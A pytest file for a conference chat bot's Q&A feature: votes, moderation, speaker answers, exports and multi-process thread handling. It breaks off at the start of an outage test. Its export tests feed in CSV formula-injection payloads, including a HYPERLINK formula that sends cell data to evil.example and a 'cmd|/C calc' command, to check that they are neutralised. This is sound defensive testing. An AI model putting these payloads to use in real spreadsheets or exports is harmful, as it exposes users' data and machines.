"""Q&A in the core: asking (in a thread or with "ask"), votes, ordering, moderation with
pre-moderation, speakers' answers, exports, offline vote reconciliation, and what the
speakers' reminders say. The platforms are a recording publisher here; the adapters'
own Q&A is tested end to end against their fake servers."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from sqlalchemy.engine import make_url

from bot.adapter import PlatformInfo
from bot.answer_cache import AnswerCache
from bot.app import open_core
from bot.events import Message, Place
from bot.messages import Button, IncomingMessage, QuestionView, Reply, ThreadRef, UserRef
from bot.render_text import render
from bot.store import qa as store
from tests.conftest import _reset_postgres, make_settings
from tests.fakes.pg_proxy import PgProxy
from tests.support import ManualClock
from tests.test_reminders import PROGRAM, RecordingMessenger, at

QA_PROGRAM = PROGRAM.replace(
    'channels:\n  discord: {announcements: "900000000000000001"}',
    'channels:\n  discord: {announcements: "900000000000000001", qa: "900000000000000002"}',
) + """moderators:
  discord_roles: [Program committee]
  slack_users: [U0MOD]
"""
ADA = "111111111111111111"


class RecordingPublisher:
    """Stands in for a platform's Q&A threads."""

    info = PlatformInfo("discord")

    def __init__(self) -> None:
        self.threads: dict[str, ThreadRef] = {}
        self.posted: list[tuple[str, str]] = []  # (thread, text)
        self.changed: list[tuple[int, str]] = []  # (question, status)
        self.reactions: dict[str, set[str]] = {}  # message ref -> users with 👍
        self.gone: set[str] = set()  # threads deleted on the platform
        self.shown: dict[int, str] = {}  # question -> what its message now says
        self.buttons: dict[int, tuple[Button, ...]] = {}

    async def open_thread(self, channel_id: str, slug: str, title: str, intro: Reply,
                          existing: ThreadRef | None) -> ThreadRef:
        if existing is not None and existing.thread_id not in self.gone:
            return existing
        thread_id = f"thread-{slug}-{len(self.posted)}"
        ref = ThreadRef(self.info.name, channel_id, thread_id,
                        url=f"https://chat.example/{thread_id}")
        self.threads[slug] = ref
        self.posted.append((ref.thread_id, render(intro)))
        return ref

    async def publish_question(self, thread: ThreadRef, question: QuestionView,
                               text: Reply, buttons: tuple[Button, ...]) -> str | None:
        self.posted.append((thread.thread_id, render(text)))
        self.buttons[question.id] = buttons
        return f"msg-{question.id}"

    async def question_changed(self, thread: ThreadRef, question: QuestionView,
                               text: Reply, buttons: tuple[Button, ...]) -> None:
        self.changed.append((question.id, question.status))
        self.shown[question.id] = render(text)
        self.buttons[question.id] = buttons

    async def publish_answer(self, thread: ThreadRef, question: QuestionView,
                             text: Reply) -> None:
        self.posted.append((thread.thread_id, render(text)))

    async def votes_on(self, thread: ThreadRef, question: QuestionView) -> set[str] | None:
        return set(self.reactions.get(question.message_ref or "", set()))


class Chat:
    def __init__(self, core, clock) -> None:  # type: ignore[no-untyped-def]
        self.core, self.clock = core, clock

    def message(self, text: str, *, user: str = "alice", platform: str = "discord",
                roles: tuple[str, ...] = (), command: str | None = None,
                thread: str | None = None) -> IncomingMessage:
        return IncomingMessage(UserRef(platform, user, user.capitalize()), text,
                               command=command, thread_id=thread, roles=roles)

    async def ask(self, text: str, **options: object) -> str:
        return render(await self.core.router.handle(self.message(text, **options)))  # type: ignore[arg-type]

    async def in_thread(self, text: str, *, thread: str, ref: str, user: str = "alice"
                        ) -> Reply | None:
        """A person's message in a thread, as an adapter hands it to the core: not
        addressed to the bot, so only a Q&A thread makes it something (a question)."""
        return await self.core.core.receive(Message(
            UserRef("discord", user, user.capitalize()), text, Place("C-qa", thread),
            addressed=False, ref=ref))


@pytest.fixture
async def chat(database_url: str, tmp_path: Path) -> AsyncIterator[Chat]:
    path = tmp_path / "program.yaml"
    path.write_text(QA_PROGRAM)
    clock = ManualClock(at("09:30"))
    async with open_core(make_settings(database_url, path), clock) as core:
        publisher = RecordingPublisher()
        core.qa.attach(publisher)
        result = Chat(core, clock)
        result.publisher = publisher  # type: ignore[attr-defined]
        yield result


MOD = {"roles": ("Program committee",)}


async def test_setup_creates_one_thread_per_item_once_and_again_after_a_deletion(chat: Chat
                                                                                ) -> None:
    publisher: RecordingPublisher = chat.publisher  # type: ignore[attr-defined]
    refused = await chat.ask("qa setup")
    assert refused == "Only moderators can use “qa setup”; nothing was changed."
    first = await chat.ask("qa setup", **MOD)
    assert first == "Q&A threads on discord: 3 created, 0 already there, 0 recreated."
    assert sorted(publisher.threads) == ["keynote", "notes", "turing"]  # not the coffee break
    assert "Ask your questions here" in publisher.posted[0][1]
    again = await chat.ask("qa setup", **MOD)
    assert again == "Q&A threads on discord: 0 created, 3 already there, 0 recreated."
    publisher.gone.add(publisher.threads["notes"].thread_id)
    third = await chat.ask("qa setup", **MOD)
    assert third == "Q&A threads on discord: 0 created, 2 already there, 1 recreated."
    stored = {t.item_id: t.thread_id for t in await store.threads(chat.core.db)}
    assert publisher.threads["notes"].thread_id in stored.values()


async def test_a_thread_message_is_a_question_and_ask_works_from_anywhere(chat: Chat) -> None:
    await chat.ask("qa setup", **MOD)
    publisher: RecordingPublisher = chat.publisher  # type: ignore[attr-defined]
    thread = publisher.threads["keynote"].thread_id
    reply = await chat.in_thread("How fast is it?", user="bob", thread=thread, ref="m-100")
    assert reply is not None and render(reply) == "Thanks! Your question is #1 for “Engines”."
    again = await chat.in_thread("How fast is it?", user="bob", thread=thread, ref="m-100")
    assert again is None  # the same message delivered twice is one question
    elsewhere = await chat.in_thread("hello", thread="some-other-thread", ref="m-101")
    assert elsewhere is None

    asked = await chat.ask("ask anonymous engines: Does it run on steam?", user="carol")
    assert asked == "Thanks! Your question is #2 for “Engines”, asked anonymously."
    assert publisher.posted[-1] == (thread, "❓ #2 from anonymous: “Does it run on steam?”")
    by_words = await chat.ask("ask machines can they think?", user="dan")
    assert by_words.startswith("Thanks! Your question is #3 for “Machines”")
    assert (await chat.core.qa.get(3))[0].text == "can they think?"  # type: ignore[index]
    assert await chat.ask("ask engines:   ") == "Sorry, your question is empty."
    assert (await chat.ask("ask")).startswith("Ask what?")
    long = await chat.ask("ask engines: " + "why " * 300)
    assert long.startswith("Sorry, your question has 1199 characters; the limit is 1000.")
    unknown = await chat.ask("ask teleportation: really?")
    assert unknown.startswith("Nothing matches “teleportation”")


async def test_votes_one_per_person_never_your_own(chat: Chat) -> None:
    qa = chat.core.qa
    keynote = chat.core.catalog.current.program.by_slug["keynote"]
    asked = await qa.ask(keynote, UserRef("discord", "bob"), "Why engines?")
    number = asked.question.id  # type: ignore[union-attr]
    assert await qa.vote(number, UserRef("discord", "bob")) == "own"
    assert await qa.vote(number, UserRef("discord", "eve")) == "added"
    assert await qa.vote(number, UserRef("discord", "eve")) == "unchanged"
    assert await qa.vote(number, UserRef("slack", "eve")) == "added"  # another person
    assert await qa.vote(number, UserRef("discord", "eve"), add=False) == "removed"
    assert await store.vote_count(chat.core.db, number) == 1
    assert await qa.vote(999, UserRef("discord", "eve")) == "unknown"
    # The Upvote button and typed votes go through the router:
    assert await chat.ask(f"qa upvote {number}", user="frank") == (
        f"👍 Counted: you upvoted #{number} (now 2).")
    assert await chat.ask(f"qa upvote #{number}", user="frank") == (
        f"You had already voted that way on #{number} (2).")
    assert await chat.ask(f"qa upvote {number}", user="bob") == (
        f"You cannot upvote your own question (#{number}).")
    assert await chat.ask(f"qa unvote {number}", user="frank") == (
        f"Your vote for #{number} is withdrawn (now 1).")
    assert await chat.ask("qa upvote 4242") == "There is no question #4242."


async def test_two_hundred_concurrent_votes_count_exactly(chat: Chat) -> None:
    qa = chat.core.qa
    keynote = chat.core.catalog.current.program.by_slug["keynote"]
    number = (await qa.ask(keynote, UserRef("discord", "bob"), "Popular?")).question.id  # type: ignore[union-attr]
    results = await asyncio.gather(*(qa.vote(number, UserRef("discord", f"fan{n}"))
                                     for n in range(200)))
    assert results.count("added") == 200
    assert await store.vote_count(chat.core.db, number) == 200


async def test_top_orders_by_votes_then_age_across_platforms(chat: Chat) -> None:
    qa = chat.core.qa
    keynote = chat.core.catalog.current.program.by_slug["keynote"]
    first = (await qa.ask(keynote, UserRef("discord", "a"), "First?")).question.id  # type: ignore[union-attr]
    second = (await qa.ask(keynote, UserRef("slack", "U1"), "Second?")).question.id  # type: ignore[union-attr]
    third = (await qa.ask(keynote, UserRef("discord", "c"), "Third?")).question.id  # type: ignore[union-attr]
    for voter in ("x", "y"):
        await qa.vote(third, UserRef("discord", voter))
    await qa.vote(second, UserRef("discord", "x"))
    assert [q.id for q in await qa.top(keynote)] == [third, second, first]
    listing = await chat.ask("qa top engines")
    assert listing.splitlines() == [
        "Top questions for “Engines”:",
        f"#{third} · 2 👍 · discord · “Third?”",
        f"#{second} · 1 👍 · slack · “Second?”",
        f"#{first} · 0 👍 · discord · “First?”",
    ]


async def test_moderation_is_for_moderators_and_shows_on_the_platform(chat: Chat) -> None:
    qa = chat.core.qa
    publisher: RecordingPublisher = chat.publisher  # type: ignore[attr-defined]
    await chat.ask("qa setup", **MOD)
    assert (await chat.ask("ask engines: Spam spam", user="bob")).startswith("Thanks!")
    number = 1
    for command in (f"qa hide {number} spam", f"qa answered {number}", f"qa restore {number}",
                    "qa pending", f"qa approve {number}"):
        refused = await chat.ask(command, user="mallory")
        assert refused.startswith("Only moderators can use"), command
    assert (await qa.get(number))[0].status == "open"  # type: ignore[index]
    assert publisher.buttons[number] == (Button("👍 Upvote", "upvote", str(number)),)
    hidden = await chat.ask(f"qa hide {number} spam", **MOD)
    assert hidden == f"Question #{number} is hidden (spam)."
    assert publisher.shown[number] == f"🚫 #{number} hidden by a moderator: “spam”"
    assert await chat.ask(f"qa restore {number}", **MOD) == f"Question #{number} is open again."
    refused = await chat.ask(f"qa answered {number}", user="U0BOB", platform="slack")
    assert refused.startswith("Only moderators can use “qa answered”")
    assert await chat.ask(f"qa answered {number}", user="U0MOD", platform="slack") == (
        f"Question #{number} is marked answered.")  # a Slack moderator by user id
    assert publisher.changed == [(number, "hidden"), (number, "open"), (number, "answered")]
    assert publisher.shown[number] == f"✅ #{number} from Bob: “Spam spam”"
    assert publisher.buttons[number] == ()  # answered: no more votes


async def test_premoderation_holds_and_releases(database_url: str, tmp_path: Path) -> None:
    path = tmp_path / "program.yaml"
    path.write_text(QA_PROGRAM + "qa: {premoderation: true}\n")
    async with open_core(make_settings(database_url, path), ManualClock(at("09:30"))) as core:
        publisher = RecordingPublisher()
        core.qa.attach(publisher)
        chat = Chat(core, core.clock)
        await chat.ask("qa setup", **MOD)
        held = await chat.ask("ask engines: Is it Turing complete?", user="bob")
        assert held.endswith("A moderator will approve it before it is shown.")
        assert all("Turing complete" not in text for _, text in publisher.posted)
        assert await chat.ask("qa top engines") == "No open questions for “Engines” yet."
        pending = await chat.ask("qa pending", **MOD)
        assert "#1 · Engines · “Is it Turing complete?”" in pending
        assert await chat.ask("qa approve 1", **MOD) == "Question #1 is approved and shown."
        assert publisher.posted[-1][1] == "❓ #1 from Bob: “Is it Turing complete?”"
        assert "#1 · 0 👍 · discord · “Is it Turing complete?”" in await chat.ask("qa top engines")


async def test_speakers_answer_their_own_questions(chat: Chat) -> None:
    await chat.ask("qa setup", **MOD)
    publisher: RecordingPublisher = chat.publisher  # type: ignore[attr-defined]
    await chat.ask("ask engines: Will it weave patterns?", user="bob")
    stranger = await chat.ask("qa answer 1 Yes.", user="bob")
    assert stranger.startswith("Only the speakers of “Engines” and moderators")
    answered = await chat.ask("qa answer 1 Yes, like a Jacquard loom.", user=ADA)
    assert answered == "Your answer to #1 is posted and the question is marked answered."
    assert publisher.posted[-1][1] == (
        f"✅ Answer to #1 from {ADA.capitalize()}: “Yes, like a Jacquard loom.”")
    assert publisher.changed[-1] == (1, "answered")
    assert await chat.ask("qa top engines") == "No open questions for “Engines” yet."


async def test_exports_are_deterministic_and_show_authors_to_moderators(chat: Chat) -> None:
    await chat.ask("ask engines: First question?", user="bob")
    await chat.ask("ask anonymous engines: Secret question?", user="carol")
    await chat.ask("ask machines: Can machines think?", user="dan")
    await chat.core.qa.vote(1, UserRef("discord", "eve"))
    public = await chat.core.router.handle(chat.message("qa export all csv", user="zed"))
    assert public.attachment is not None
    rows = list(csv.DictReader(io.StringIO(public.attachment.data.decode())))
    assert [r["id"] for r in rows] == ["1", "2", "3"]
    assert "author" not in rows[0]
    assert (rows[0]["votes"], rows[0]["status"], rows[0]["platform"]) == ("1", "open", "discord")
    assert rows[0]["asked_at"] == "2024-05-06T07:30:00Z"
    moderated = await chat.core.router.handle(chat.message("qa export all json", **MOD))
    assert moderated.private is True and public.private is None  # authors: for the moderator
    records = json.loads(moderated.attachment.data)  # type: ignore[union-attr]
    assert [r["author"] for r in records] == ["Bob", "Carol (anonymous)", "Dan"]
    again = await chat.core.router.handle(chat.message("qa export all json", **MOD))
    assert again.attachment.data == moderated.attachment.data  # type: ignore[union-attr]
    markdown = await chat.core.router.handle(chat.message("qa export engines md", user="zed"))
    text = markdown.attachment.data.decode()  # type: ignore[union-attr]
    assert markdown.attachment.filename == "questions-keynote.md"  # type: ignore[union-attr]
    assert text.startswith("# Questions: Engines\n\n## Engines\n\n- **#1** (1 votes, open,")
    assert "Bob" not in text and "Carol" not in text  # no authors for attendees


async def test_votes_cast_while_offline_are_reconciled(chat: Chat) -> None:
    publisher: RecordingPublisher = chat.publisher  # type: ignore[attr-defined]
    await chat.ask("qa setup", **MOD)
    thread = publisher.threads["keynote"].thread_id
    await chat.in_thread("Q?", user="bob", thread=thread, ref="m-1")
    await chat.core.qa.vote_by_message("discord", "m-1", "gone", add=True)  # 👍 withdrawn
    button = await chat.core.router.handle(  # an Upvote press, which no reaction shows
        chat.message("1", user="gail", command="upvote"))
    assert render(button) == "👍 Counted: you upvoted #1 (now 2)."
    publisher.reactions["m-1"] = {"eve", "frank", "bob"}  # bob is the author: not a vote
    assert await chat.core.qa.reconcile_votes() == 3
    assert await store.voters(chat.core.db, 1, "discord") == {"eve", "frank", "gail"}
    assert await chat.core.qa.reconcile_votes() == 0


async def test_speakers_get_top_questions_at_t10_and_a_digest_at_the_end(chat: Chat) -> None:
    messenger = RecordingMessenger(chat.clock)
    chat.core.reminders.attach(messenger)
    for text in ("One?", "Two?", "Three?", "Four?"):
        await chat.ask(f"ask engines: {text}", user="bob")
    await chat.core.qa.vote(4, UserRef("discord", "eve"))
    chat.clock.at = at("09:55")
    await chat.core.reminders.fire("speaker", "keynote", 5)
    reminder = render(messenger.sent[-1][1].reply)
    assert "Top questions waiting for you:\n1. #4 (1 👍): Four?\n2. #1 (0 👍): One?" in reminder
    await chat.ask("qa answer 2 Yes.", user=ADA)
    chat.clock.at = at("10:30")
    report = await chat.core.reminders.fire("digest", "keynote", 0)
    assert report.sent == 1
    digest = render(messenger.sent[-1][1].reply)
    assert digest.startswith("🗒 “Engines” has ended. 3 questions still open:")
    assert "#2" not in digest and "qa answer <id> <your answer>" in digest


def test_cli_exports_questions(tmp_path: Path, sqlite_url: str) -> None:
    path = tmp_path / "program.yaml"
    path.write_text(QA_PROGRAM)

    async def seed() -> None:
        async with open_core(make_settings(sqlite_url, path), ManualClock(at("09:30"))) as core:
            keynote = core.catalog.current.program.by_slug["keynote"]
            await core.qa.ask(keynote, UserRef("slack", "U1", "Una"), "From the CLI?")

    asyncio.run(seed())
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("BOT_", "DATABASE_URL", "SLACK_", "DISCORD_"))}
    env.update(DATABASE_URL=sqlite_url, BOT_PROGRAM=str(path))
    out = tmp_path / "q.csv"
    done = subprocess.run([sys.executable, "-m", "bot", "qa", "export", "--format", "csv",
                           "--output", str(out)], cwd=tmp_path, env=env, capture_output=True,
                          text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(out.open()))
    assert (rows[0]["question"], rows[0]["author"], rows[0]["platform"]) == (
        "From the CLI?", "Una", "slack")
    setup = subprocess.run([sys.executable, "-m", "bot", "qa", "setup"], cwd=tmp_path, env=env,
                           capture_output=True, text=True, timeout=60, check=False)
    assert setup.returncode == 2
    assert "no platform is configured" in setup.stderr


async def test_about_a_paper_links_its_thread_on_the_askers_platform(chat: Chat) -> None:
    before = await chat.ask("about engines")
    assert "Engines" in before and "Questions for the speakers" not in before, before
    await chat.ask("qa setup", **MOD)
    answer = await chat.ask("about engines")
    assert answer.endswith("Questions for the speakers: https://chat.example/thread-keynote-0")
    elsewhere = await chat.ask("about engines", platform="slack")
    assert elsewhere == before  # no Slack thread was made: nothing to link


async def test_only_qa_commands_need_the_askers_roles(chat: Chat) -> None:
    """Adapters read roles from the platform only when the core says they matter."""
    router = chat.core.router

    def needs(message: IncomingMessage) -> bool:
        return router.needs_roles(router.understand(message))
    assert needs(chat.message("qa pending")) and needs(chat.message("/qa hide 3 spam"))
    assert needs(chat.message("pending", command="qa"))
    for text in ("what's next?", "ask engines: Does it run on steam?", "when is kraska"):
        assert not needs(chat.message(text)), text


# -- hostile questions and exports (issue 11, item 9) ------------------------------------

INVISIBLE = [
    "\u200b", "\u200b\u200c\u200d", "\u200e\u200f", "\u202a\u202b\u202c\u202d\u202e",
    "\u2060\u2061\u2062\u2063\u2064", "\u2066\u2067\u2068\u2069", "\ufeff", "\u00ad",
    "\U000e0041\U000e0042",  # tag characters
    "\u180e", "\ufe0f\ufe0e", "\u034f",  # Mongolian vowel separator, variation selectors, CGJ
    "\u3164\u115f\u1160\uffa0", "\u2800",  # the Hangul fillers, the blank Braille pattern
    "\u200b \u3000 \u202e\u00a0\u2028",  # mixed with spaces of every kind
    "\x00\x1b\x7f\x85",  # control characters
]


@pytest.mark.parametrize("invisible", INVISIBLE, ids=lambda t: "+".join(f"{ord(c):04X}" for c in t))
async def test_a_question_that_shows_nothing_is_refused_like_an_empty_one(
        chat: Chat, invisible: str) -> None:
    await chat.ask("qa setup", **MOD)
    publisher: RecordingPublisher = chat.publisher  # type: ignore[attr-defined]
    assert await chat.ask(f"ask engines: {invisible}") == "Sorry, your question is empty."
    thread = publisher.threads["keynote"].thread_id
    reply = await chat.in_thread(invisible, user="bob", thread=thread, ref="m-invisible")
    assert reply is not None and render(reply) == (
        "Sorry, your question is empty; it was not recorded as a question.")
    assert await store.questions(chat.core.db) == []
    # an answer or a reason for hiding that shows nothing is no answer or reason either
    await chat.ask("ask engines: A real question?", user="bob")
    assert (await chat.ask(f"qa answer 1 {invisible}", user=ADA)).startswith(
        "Write “qa answer <id> <your answer>”")
    assert await chat.ask(f"qa hide 1 {invisible}", **MOD) == "Say why: “qa hide 12 off topic”."
    assert (await chat.core.qa.get(1))[0].status == "open"  # type: ignore[index]


async def test_invisible_characters_around_a_real_question_do_not_refuse_it(chat: Chat) -> None:
    asked = await chat.ask("ask engines: \u200b\u202eWhy brass?\u200b", user="bob")
    assert asked == "Thanks! Your question is #1 for “Engines”."
    for text in ("¿", "😀", "٣", "ّا", "中"):  # punctuation, a symbol, a number, letters
        assert (await chat.ask(f"ask engines: {text}", user="bob")).startswith("Thanks!"), text


async def test_a_nul_in_a_question_is_a_space_not_a_database_error(chat: Chat) -> None:
    asked = await chat.ask("ask engines: Why\x00 brass\x1b?", user="bob")
    assert asked == "Thanks! Your question is #1 for “Engines”."
    assert (await chat.core.qa.get(1))[0].text == "Why brass ?"  # type: ignore[index]


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "=1,2;3\"\n=4"]


async def test_csv_exports_neutralise_formulas_in_every_text_cell(chat: Chat) -> None:
    """OWASP: a cell a spreadsheet would run gets a single quote first; every field is
    quoted, so no separator or quote inside a text starts a cell of its own."""
    await chat.ask("qa setup", **MOD)
    for n, formula in enumerate(FORMULAS[:4], start=1):
        name = formula if n < 3 else "\t=tab" if n == 3 else "\r=cr"
        question = IncomingMessage(UserRef("discord", f"user{n}", name), f"ask engines: {formula}")
        assert render(await chat.core.router.handle(question)).startswith("Thanks!")
    assert (await chat.ask(f"qa answer 1 {FORMULAS[4]}", user=ADA)).startswith("Your answer")
    await chat.ask("qa hide 2 @evil reason", **MOD)
    moderated = await chat.core.router.handle(chat.message("qa export all csv", **MOD))
    public = await chat.core.router.handle(chat.message("qa export all csv", user="zed"))
    for export in (moderated, public):
        assert export.attachment is not None
        data = export.attachment.data.decode()
        rows = list(csv.reader(io.StringIO(data)))
        header, cells = rows[0], [cell for row in rows[1:] for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
        records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
        by_id = {r["id"]: r for r in records}
        assert by_id["1"]["question"] == "'" + FORMULAS[0]
        assert by_id["1"]["answer"] == "'" + " ".join(FORMULAS[4].split())  # one line
        assert by_id["3"]["question"] == "'-2+3"
        assert by_id["4"]["question"] == "'@SUM(A1:A9)"
        lines = data.splitlines()
        assert all(line.startswith('"') and line.endswith('"') for line in lines[:2])
    moderated_rows = {r["id"]: r for r in csv.DictReader(io.StringIO(
        moderated.attachment.data.decode()))}  # type: ignore[union-attr]
    assert moderated_rows["1"]["author"] == "'" + FORMULAS[0]
    assert moderated_rows["2"]["author"] == "'" + FORMULAS[1]
    assert moderated_rows["3"]["author"] == "'\t=tab"
    assert moderated_rows["4"]["author"] == "'\r=cr"
    assert moderated_rows["2"]["reason"] == "'@evil reason"


async def test_markdown_exports_show_question_texts_as_plain_words(chat: Chat) -> None:
    await chat.ask("ask engines: see [click](https://evil.example) **now** <b>x</b> `code`",
                   user="bob")
    await chat.ask("qa answer 1 line one\n# not a heading\n- not an item", user=ADA)
    export = await chat.core.router.handle(chat.message("qa export all md", **MOD))
    text = export.attachment.data.decode()  # type: ignore[union-attr]
    [question, answer] = [line for line in text.splitlines() if line.startswith(("- **#", "  -"))]
    assert question.endswith(r": see \[click\](https://evil.example) \*\*now\*\* \<b\>x\</b\> "
                             r"\`code\`")
    assert answer == r"  - Answer: line one \# not a heading - not an item"


async def test_a_pending_question_is_not_confirmed_to_those_who_may_not_see_it(
        database_url: str, tmp_path: Path) -> None:
    """Votes by number and answers on a question waiting for approval: for anyone but its
    asker and the moderators, the reply is the one for a number nobody has, and nothing
    changes. A 👍 on its message in the thread (which the reactor sees) still counts."""
    path = tmp_path / "program.yaml"
    path.write_text(QA_PROGRAM + "qa: {premoderation: true}\n")
    async with open_core(make_settings(database_url, path), ManualClock(at("09:30"))) as core:
        core.qa.attach(RecordingPublisher())
        chat = Chat(core, core.clock)
        await chat.ask("qa setup", **MOD)
        await chat.ask("ask engines: Is it Turing complete?", user="bob")  # #1, pending
        await chat.ask("ask engines: Spam?", user="bob")  # #2, hidden before anyone saw it
        await chat.ask("qa hide 2 spam", **MOD)

        async def said(text: str, **options: object) -> tuple[str, str]:
            reply = await core.router.handle(chat.message(text, **options))  # type: ignore[arg-type]
            return render(reply), reply.kind

        for number in (1, 2):
            for words, options in ((f"qa upvote {number}", {}), (f"qa unvote #{number}", {}),
                                   (str(number), {"command": "upvote"}),  # a button press
                                   (f"qa answer {number} Yes.", {"user": ADA})):
                nobody = await said(words.replace(str(number), "4242"), **{"user": "eve",
                                                                           **options})
                assert await said(words, **{"user": "eve", **options}) == (
                    nobody[0].replace("4242", str(number)), nobody[1]), words
        assert await store.vote_count(core.db, 1) == 0
        assert (await core.qa.get(1))[0].status == "pending"  # type: ignore[index]
        # the asker and the moderators know of it
        assert await chat.ask("qa upvote 1", user="bob") == (
            "You cannot upvote your own question (#1).")
        assert await chat.ask("qa upvote 1", **MOD) == (
            "Question #1 is waiting for approval; votes count once it is approved.")
        assert await chat.ask("qa upvote 2", **MOD) == "Question #2 is no longer open for votes."
        assert await store.vote_count(core.db, 1) == 0
        # a question asked in the thread is a message the thread shows: 👍 counts
        thread = core.qa.threads.loaded.by_item[("discord", 1)].thread_id  # type: ignore[union-attr]
        await chat.in_thread("In the thread?", user="carol", thread=thread, ref="m-3")
        assert await core.qa.vote_by_message("discord", "m-3", "eve", add=True) == "added"
        # approved, the question is everyone's
        await chat.ask("qa approve 1", **MOD)
        assert await chat.ask("qa upvote 1", user="eve") == "👍 Counted: you upvoted #1 (now 1)."
        # an attendee's export holds what the threads show; a moderator's everything
        public = await core.router.handle(chat.message("qa export all json", user="zed"))
        assert [r["id"] for r in json.loads(public.attachment.data)] == [1]  # type: ignore[union-attr]
        moderated = await core.router.handle(chat.message("qa export all json", **MOD))
        assert [r["id"] for r in json.loads(moderated.attachment.data)] == [1, 2, 3]  # type: ignore[union-attr]


# -- a second process on the same database (issue 11, item 3) ----------------------------


@pytest.fixture
async def two(database_url: str, tmp_path: Path) -> AsyncIterator[tuple[Chat, Chat]]:
    """The running bot and a second process (``workshop-bot qa setup``, or another
    instance) on one database, each with its own platform connection."""
    path = tmp_path / "program.yaml"
    path.write_text(QA_PROGRAM)
    settings = make_settings(database_url, path)
    clock = ManualClock(at("09:30"))
    async with open_core(settings, clock) as running, open_core(settings, clock) as other:
        chats = []
        for core in (running, other):
            publisher = RecordingPublisher()
            core.qa.attach(publisher)
            chat = Chat(core, clock)
            chat.publisher = publisher  # type: ignore[attr-defined]
            chats.append(chat)
        # The bot's clock stands still and so does real time: only the Q&A revision can
        # tell the answer cache that an answer went stale.
        running.router.answers = AnswerCache(real_seconds=lambda: 0.0)
        yield chats[0], chats[1]


async def test_a_question_in_a_thread_another_process_just_made_is_taken(
        two: tuple[Chat, Chat]) -> None:
    bot, setup = two
    theirs: RecordingPublisher = setup.publisher  # type: ignore[attr-defined]
    await setup.ask("qa setup", **MOD)
    first = theirs.threads["keynote"]
    asked = await bot.in_thread("First?", user="bob", thread=first.thread_id, ref="m-1")
    assert asked is not None and render(asked) == "Thanks! Your question is #1 for “Engines”."
    # the other process recreates every thread (deleted on the platform); at once, a
    # question in the new keynote thread reaches the running bot
    theirs.gone |= {ref.thread_id for ref in theirs.threads.values()}
    again = await setup.ask("qa setup", **MOD)
    assert again == "Q&A threads on discord: 0 created, 0 already there, 3 recreated."
    renewed = theirs.threads["keynote"]
    assert renewed.thread_id != first.thread_id
    asked = await bot.in_thread("Second?", user="carol", thread=renewed.thread_id, ref="m-2")
    assert asked is not None and render(asked) == "Thanks! Your question is #2 for “Engines”."
    question, item = await bot.core.qa.get(2)  # type: ignore[misc]
    assert (question.text, item.slug, question.message_ref) == ("Second?", "keynote", "m-2")
    # a thread that is no Q&A thread is still none of the bot's business
    assert await bot.in_thread("hello", thread="some-other-thread", ref="m-3") is None


async def test_links_and_posts_follow_threads_another_process_recreated(
        two: tuple[Chat, Chat]) -> None:
    bot, setup = two
    theirs: RecordingPublisher = setup.publisher  # type: ignore[attr-defined]
    mine: RecordingPublisher = bot.publisher  # type: ignore[attr-defined]
    await setup.ask("qa setup", **MOD)
    await bot.core.qa.poll_threads()  # as every BOT_RELOAD_POLL seconds
    old = theirs.threads["turing"]
    assert (await bot.ask("about machines")).endswith(f"Questions for the speakers: {old.url}")
    theirs.gone.add(old.thread_id)
    assert (await setup.ask("qa setup", **MOD)).endswith("1 recreated.")
    new = theirs.threads["turing"]
    # what the bot posts goes to the new thread at once
    assert (await bot.ask("ask machines: Can they think?", user="dan")).startswith("Thanks!")
    assert mine.posted[-1] == (new.thread_id, "❓ #1 from Dan: “Can they think?”")
    # and the poll (every BOT_RELOAD_POLL seconds) brings the links along: the same clock
    # second and the same real second, yet the answer cache gives the new link
    await bot.core.qa.poll_threads()
    assert (await bot.ask("about machines")).endswith(f"Questions for the speakers: {new.url}")


async def test_the_poll_reads_the_threads_only_when_their_revision_moved(
        two: tuple[Chat, Chat]) -> None:
    bot, setup = two
    threads = bot.core.qa.threads
    before = threads.loaded
    assert before is not None  # read at start
    assert not await threads.refresh()
    assert threads.loaded is before
    await setup.ask("qa setup", **MOD)
    assert await threads.refresh()
    assert threads.loaded is not before and len(threads.loaded.by_item) == 3  # type: ignore[union-attr]
    assert not await threads.refresh()


async def test_controls_and_long_reasons_get_one_line_not_a_database_error(chat: Chat) -> None:
    """PostgreSQL refuses a NUL in text and a reason longer than its column: the bot must
    not hand either to it (nor take the error for the database being away)."""
    await chat.ask("ask engines: Why brass?", user="bob")
    answered = await chat.ask("qa answer 1 Yes\x00, by\x07 steam.", user=ADA)
    assert answered.startswith("Your answer to #1 is posted")
    assert (await chat.core.qa.get(1))[0].answer == "Yes , by  steam."  # type: ignore[index]
    await chat.ask("ask engines: Spam?", user="bob")
    too_long = await chat.ask("qa hide 2 " + "x" * 501, **MOD)
    assert too_long == (
        "Sorry, the reason has 501 characters; the limit is 500; nothing was changed.")
    assert (await chat.core.qa.get(2))[0].status == "open"  # type: ignore[index]
    hidden = await chat.ask("qa hide 2 " + "\x00y" * 250, **MOD)
    assert hidden.startswith("Question #2 is hidden")
    assert (await chat.core.qa.get(2))[0].reason == (" y" * 250).strip()  # type: ignore[index]
    named = IncomingMessage(UserRef("discord", "nul", "Nul\x00" + "n" * 300), "ask engines: Hi?")
    assert render(await chat.core.router.handle(named)).startswith("Thanks!")
    assert (await chat.core.qa.get(3))[0].author_name == "Nul " + "n" * 196  # type: ignore[index]


# -- while the database is away -------------------------------------------------------------


@pytest.mark.skipif(not os.environ.get("TEST_DATABASE_URL"), reason="needs PostgreSQL")
async def test_threads_and_reactions_during_an_outage(postgres_url: str | None,
                                                      tmp_path: Path) -> None:
    """PostgreSQL refusing connections (the tests' own proxy in between): links keep
    coming from memory, a message in an unknown thread is simply no question, a 👍 is
    "deferred" instead of an error, and the first poll after the outage counts it."""
    assert postgres_url is not None
    await _reset_postgres(postgres_url)
    url = make_url(postgres_url)
    proxy = await PgProxy(url.host or "127.0.0.1", url.port or 5432).start()
    path = tmp_path / "program.yaml"
    path.write_text(QA_PROGRAM)
    try:
        settings = make_settings(proxy.url(postgres_url), path)
        async with open_core(settings, ManualClock(at("09:30"))) as core:
            publisher = RecordingPublisher()
            core.qa.attach(publisher)
            chat = Chat(core, core.clock)
